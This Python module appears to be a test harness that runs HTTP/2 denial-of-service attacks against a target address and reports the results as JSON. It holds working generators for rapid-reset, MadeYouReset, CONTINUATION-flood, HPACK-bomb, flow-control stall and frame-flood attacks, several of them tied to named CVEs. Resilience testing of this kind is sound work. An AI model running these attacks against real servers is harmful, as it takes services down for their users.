"""HTTP/2 attackers: each a process of its own, so that what the attack costs it does not count for others.

    python -m support.http2_attacks KIND ADDRESS SECONDS [HOST [IDENTITY SNI]]

runs `KIND` for so long and prints what came of it as JSON. `KIND@n` comes back n times when it was thrown out. With
IDENTITY (a directory) it is a peer of the mesh. Sends frames as fast as it can, and reads what comes.
"""

import contextlib
import json
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

from support import http2_frames as f

Fields = f.Fields
ATTACKS: "dict[str, Callable[[Attacker], Iterator[bytes]]]" = {}


class Attacker:
    """One connection at a time."""

    def __init__(
        self, address: str, until: float, host: str = "reviews", tls: ssl.SSLContext | None = None, sni: str = ""
    ) -> None:
        where, _, port = address.rpartition(":")
        self.address, self.until, self.host = (where, int(port)), until, host.encode()
        self.tls, self.sni = tls, sni
        self.sid = -1
        self.connections = 0
        self.frames = self.requests = self.sent_bytes = 0
        self.codes: dict[str, int] = {}
        self.resets = 0
        self.reads = True
        self.leaves = False

    def dial(self) -> socket.socket:
        sock = socket.create_connection(self.address, 10)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.connections += 1
        if self.tls is not None:
            return self.tls.wrap_socket(sock, server_hostname=self.sni, suppress_ragged_eofs=False)
        return sock

    @property
    def going(self) -> bool:
        return time.monotonic() < self.until

    def next(self) -> int:
        self.sid += 2
        self.requests += 1
        return self.sid

    def fields(
        self, method: bytes = b"GET", path: bytes = b"/attack", more: Iterable[tuple[bytes, bytes]] = ()
    ) -> Fields:
        return f.request(method, path, self.host, more=more)

    def lost(self) -> Fields:
        """A request that leads to no application."""
        return f.request(b"GET", b"/attack", b"web" if self.tls is not None else b"nowhere")

    def head(self, method: bytes = b"GET", end: bool = True, more: Iterable[tuple[bytes, bytes]] = ()) -> bytes:
        return f.headers(self.next(), self.fields(method, more=more), end)

    def run(self, attack: "Callable[[Attacker], Iterator[bytes]]") -> None:
        """One connection, to its end or to the end of time."""
        self.sid = -1
        parser = f.Parser()
        with self.dial() as sock:
            self.sock = sock
            sock.settimeout(10)
            try:
                for wire in attack(self):
                    if wire:
                        sock.sendall(wire)
                        self.sent_bytes += len(wire)
                    if self.reads and not self.read(sock, parser):
                        return
                    if not self.going:
                        return
                while self.going and not self.leaves and self.read(sock, parser, 0.05):
                    pass
            except OSError:
                sock.settimeout(0.5)
                with contextlib.suppress(OSError):
                    while self.read(sock, parser, 0.5):
                        pass

    def read(self, sock: socket.socket, parser: f.Parser, limit_s: float = 0.0) -> bool:
        """What has come; False at the end."""
        sock.settimeout(limit_s)
        try:
            data = sock.recv(1 << 18)
        except (BlockingIOError, TimeoutError, ssl.SSLWantReadError):
            return True
        finally:
            sock.settimeout(10)
        for frame in parser.feed(data):
            self.frames += 1
            if frame.kind == f.GOAWAY:
                name = f"goaway {frame.code}"
                self.codes[name] = self.codes.get(name, 0) + 1
            elif frame.kind == f.RST_STREAM:
                self.resets += 1
        return bool(data)


def attack(name: str) -> "Callable[[Callable[[Attacker], Iterator[bytes]]], Callable[[Attacker], Iterator[bytes]]]":
    def keep(function: Callable[[Attacker], Iterator[bytes]]) -> Callable[[Attacker], Iterator[bytes]]:
        ATTACKS[name] = function
        return function

    return keep


GREETING = f.PREFACE + f.settings() + f.settings(ack=True)
READER = GREETING + f.window_update(0, 1 << 30)


def greeted(settings: dict[int, int] | None = None) -> bytes:
    return f.PREFACE + f.settings(settings) + f.settings(ack=True)


# -- resets


@attack("rapid-reset")
def rapid_reset(a: Attacker) -> Iterator[bytes]:
    """CVE-2023-44487, in bursts."""
    yield GREETING
    while True:
        yield b"".join(a.head() + f.rst_stream(a.sid) for _ in range(20))


@attack("rapid-reset-late")
def rapid_reset_late(a: Attacker) -> Iterator[bytes]:
    """Each request is on its way to the application before it is cancelled."""
    yield GREETING
    while True:
        yield a.head()
        time.sleep(0.003)
        yield f.rst_stream(a.sid)


@attack("made-reset-length")
def made_reset_length(a: Attacker) -> Iterator[bytes]:
    """CVE-2025-8671: the server resets."""
    yield GREETING
    while True:
        yield a.head(b"POST", False, [(b"content-length", b"1")])
        time.sleep(0.003)
        yield f.data(a.sid, b"too much", True)


@attack("made-reset-window")
def made_reset_window(a: Attacker) -> Iterator[bytes]:
    yield GREETING
    while True:
        yield a.head(b"POST", False)
        time.sleep(0.003)
        yield f.window_update(a.sid, 0)


@attack("made-reset-overflow")
def made_reset_overflow(a: Attacker) -> Iterator[bytes]:
    yield GREETING
    while True:
        yield a.head(b"POST", False)
        time.sleep(0.003)
        yield f.window_update(a.sid, 0x7FFFFFFF)


@attack("made-reset-half-closed")
def made_reset_half_closed(a: Attacker) -> Iterator[bytes]:
    yield GREETING
    while True:
        yield a.head()
        time.sleep(0.003)
        yield f.headers(a.sid, [(b"x", b"y")], True)


@attack("made-reset-trailers")
def made_reset_trailers(a: Attacker) -> Iterator[bytes]:
    yield GREETING
    while True:
        yield a.head(b"POST", False)
        time.sleep(0.003)
        yield f.headers(a.sid, [(b"X", b"y")], True)


@attack("malformed")
def malformed(a: Attacker) -> Iterator[bytes]:
    """Requests that are stream errors at once."""
    yield GREETING
    while True:
        yield a.head(more=[(b"connection", b"close")])
        time.sleep(0.001)


# -- frames


def _flood(
    one: Callable[[Attacker], bytes], method: bytes = b"POST", count: int = 200
) -> Callable[[Attacker], Iterator[bytes]]:
    def flood(a: Attacker) -> Iterator[bytes]:
        yield GREETING + a.head(method, False)
        wire = one(a) * count
        while True:
            yield wire

    return flood


ATTACKS["settings"] = _flood(lambda a: f.settings({f.INITIAL_WINDOW_SIZE: 65535}))
ATTACKS["empty-settings"] = _flood(lambda a: f.settings())
ATTACKS["settings-entries"] = _flood(lambda a: f.settings([(f.MAX_CONCURRENT_STREAMS, 5)] * 2000), count=1)
ATTACKS["ping"] = _flood(lambda a: f.ping())
ATTACKS["priority"] = _flood(lambda a: f.priority(1, 3))
ATTACKS["window-update"] = _flood(lambda a: f.window_update(0, 1))
ATTACKS["window-update-stream"] = _flood(lambda a: f.window_update(1, 1))
ATTACKS["empty-data"] = _flood(lambda a: f.data(1))
ATTACKS["tiny-data"] = _flood(lambda a: f.data(1, b"x"))
ATTACKS["padded-data"] = _flood(lambda a: f.data(1, b"", pad=10))
ATTACKS["unknown"] = _flood(lambda a: f.frame(0xFA, 0, b"grease"))
ATTACKS["goaway"] = _flood(lambda a: f.goaway(0))
ATTACKS["rst-stream"] = _flood(lambda a: f.rst_stream(1), b"GET")


@attack("unread-pings")
def unread_pings(a: Attacker) -> Iterator[bytes]:
    """CVE-2019-9512: answers pile up, because nobody reads them."""
    a.reads = False
    yield GREETING
    while True:
        yield f.ping() * 50
        time.sleep(0.02)


@attack("continuation")
def continuation(a: Attacker) -> Iterator[bytes]:
    """CVE-2024-27919, CVE-2024-30255."""
    yield GREETING + f.headers(a.next(), a.fields(), end_headers=False)
    while True:
        yield f.continuation(1, f.literal(b"x", b"y")) * 100


@attack("empty-continuation")
def empty_continuation(a: Attacker) -> Iterator[bytes]:
    yield GREETING + f.headers(a.next(), a.fields(), end_headers=False)
    while True:
        yield f.continuation(1) * 500


@attack("large-continuation")
def large_continuation(a: Attacker) -> Iterator[bytes]:
    yield GREETING + f.headers(a.next(), a.fields(), end_headers=False)
    while True:
        yield f.continuation(1, f.literal(b"x", b"y" * 8000) * 2)


# -- compression


@attack("hpack-bomb")
def hpack_bomb(a: Attacker) -> Iterator[bytes]:
    """CVE-2016-6581: one large entry, many references."""
    yield GREETING
    while True:
        block = f.block(a.fields()) + f.literal(b"x", b"v" * 4000, 0x40) + f.indexed(62) * 12000
        yield f.headers(a.next(), block, True)


@attack("hpack-allowed")
def hpack_allowed(a: Attacker) -> Iterator[bytes]:
    """As much as is allowed: a hundred bytes become sixty thousand, a hundred times at once; the streams stay open."""
    yield GREETING + f.headers(a.next(), f.block(a.fields()) + f.literal(b"x", b"v" * 4000, 0x40), True)
    for _ in range(99):
        yield f.headers(a.next(), f.block(a.fields(b"POST")) + f.indexed(62) * 14, False)


@attack("crumbs")
def crumbs(a: Attacker) -> Iterator[bytes]:
    """CVE-2026-47774."""
    yield GREETING
    while True:
        yield f.headers(a.next(), f.block(a.fields()) + f.literal(b"cookie", b"", 0x40) + f.indexed(62) * 15000, True)


@attack("crumbs-allowed")
def crumbs_allowed(a: Attacker) -> Iterator[bytes]:
    yield READER + f.headers(a.next(), f.block(a.lost()) + f.literal(b"cookie", b"ab", 0x40), True)
    while True:
        yield f.headers(a.next(), f.block(a.lost()) + f.indexed(62) * 250, True)
        time.sleep(0.002)


@attack("padded-integers")
def padded_integers(a: Attacker) -> Iterator[bytes]:
    """CVE-2023-33953."""
    yield GREETING
    while True:
        yield f.headers(a.next(), f.integer(127, 7, 0x80, 10000), True)


@attack("table-sizes")
def table_sizes(a: Attacker) -> Iterator[bytes]:
    """Changes of the table's size, many in each request."""
    yield READER
    while True:
        yield f.headers(a.next(), b"\x20\x3f\xe1\x1f" * 4000 + f.block(a.lost()), True)
        time.sleep(0.002)


# -- windows and time


@attack("zero-window")
def zero_window(a: Attacker) -> Iterator[bytes]:
    """CVE-2019-9517: a hundred large answers that nobody takes."""
    yield greeted({f.INITIAL_WINDOW_SIZE: 0})
    for _ in range(99):
        yield f.headers(a.next(), a.fields(path=b"/big"), True)


@attack("one-byte-windows")
def one_byte_windows(a: Attacker) -> Iterator[bytes]:
    """The same, a byte now and then."""
    yield greeted({f.INITIAL_WINDOW_SIZE: 1})
    for _ in range(99):
        yield f.headers(a.next(), a.fields(path=b"/big"), True)
    while True:
        for sid in range(1, a.sid, 2):
            yield f.window_update(sid, 1)
        time.sleep(0.3)


@attack("unread")
def unread(a: Attacker) -> Iterator[bytes]:
    """The windows are open, and the socket is not read."""
    a.reads = False
    yield greeted({f.INITIAL_WINDOW_SIZE: 0x7FFFFFFF}) + f.window_update(0, 0x7FFFFFFF - 65535)
    for _ in range(99):
        yield f.headers(a.next(), a.fields(path=b"/big"), True)
    while True:
        time.sleep(0.1)
        yield b""


@attack("slow-posts")
def slow_posts(a: Attacker) -> Iterator[bytes]:
    yield GREETING
    for _ in range(99):
        yield a.head(b"POST", False)
    while True:
        for sid in range(1, a.sid, 2):
            yield f.data(sid, b"two")
        time.sleep(0.2)


@attack("largest-id")
def largest_id(a: Attacker) -> Iterator[bytes]:
    """The last stream that a connection can have, and what might follow it."""
    yield GREETING
    a.requests += 1
    yield f.headers(0x7FFFFFFF, a.fields(), True)
    time.sleep(0.2)
    while True:
        yield f.headers(0xFFFFFFFF, a.fields(), True) + f.headers(1, a.fields(), True)


@attack("churn")
def churn(a: Attacker) -> Iterator[bytes]:
    """A request, and away."""
    yield GREETING + a.head()
    time.sleep(0.001)
    a.leaves = True


@attack("silent")
def silent(a: Attacker) -> Iterator[bytes]:
    yield b""


def main(kind: str, address: str, seconds: str, host: str = "reviews", identity: str = "", sni: str = "") -> None:
    tls = None
    if identity:
        files = Path(identity)
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname = False
        tls.load_verify_locations(str(files / "bundle.pem"))
        tls.load_cert_chain(str(files / "cert.pem"), str(files / "key.pem"))
        tls.set_alpn_protocols(["h2"])
    name, _, times = kind.partition("@")
    attacker = Attacker(address, time.monotonic() + float(seconds), host, tls, sni)
    for _ in range(int(times or 1)):
        try:
            attacker.run(ATTACKS[name])
        except OSError as exc:
            attacker.codes[repr(exc)] = attacker.codes.get(repr(exc), 0) + 1
        if not attacker.going:
            break
    told = {
        "connections": attacker.connections,
        "requests": attacker.requests,
        "sent_bytes": attacker.sent_bytes,
        "resets": attacker.resets,
        "codes": attacker.codes,
    }
    print(json.dumps(told), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
